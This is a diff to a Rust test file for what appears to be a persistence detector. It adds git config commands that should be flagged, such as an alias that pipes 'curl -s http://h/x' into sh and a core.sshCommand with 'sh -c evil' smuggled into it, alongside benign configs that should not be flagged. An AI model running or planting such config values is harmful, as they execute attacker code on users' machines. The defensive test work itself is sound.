@@ -17,6 +17,22 @@ fn who_only_arranges_for_later_persists() {
         &["ssh-copy-id", "host"],
         &["git", "config", "--global", "core.hooksPath", "/tmp/hooks"],
         &["git", "config", "--system", "init.templateDir", "t"],
+        &["git", "config", "core.fsmonitor", "touch /tmp/x"],
+        &[
+            "git",
+            "-C",
+            "repo",
+            "config",
+            "core.sshCommand",
+            "sh -c evil; ssh",
+        ],
+        &["git", "config", "core.pager", "less | tee /tmp/x"],
+        &[
+            "git",
+            "config",
+            "alias.st",
+            "!curl -s http://h/x | sh; git status",
+        ],
     ] {
         names(
             |story| {
@@ -54,6 +70,13 @@ fn asking_what_is_arranged_is_none() {
         &["git", "config", "--global", "core.hooksPath"],
         &["git", "config", "--global", "user.name", "me"],
         &["git", "config", "core.hooksPath", ".husky"],
+        &["git", "config", "core.fsmonitor", "true"],
+        &["git", "config", "core.sshCommand", "ssh -i key"],
+        &["git", "config", "core.pager", "less -R"],
+        &["git", "config", "core.editor", "vim"],
+        &["git", "config", "alias.lg", "!git log --graph"],
+        &["git", "config", "alias.root", "!pwd"],
+        &["git", "config", "--get", "core.fsmonitor"],
     ] {
         is_silent(|story| {
             story.exec(P, "/usr/bin/any", argv);
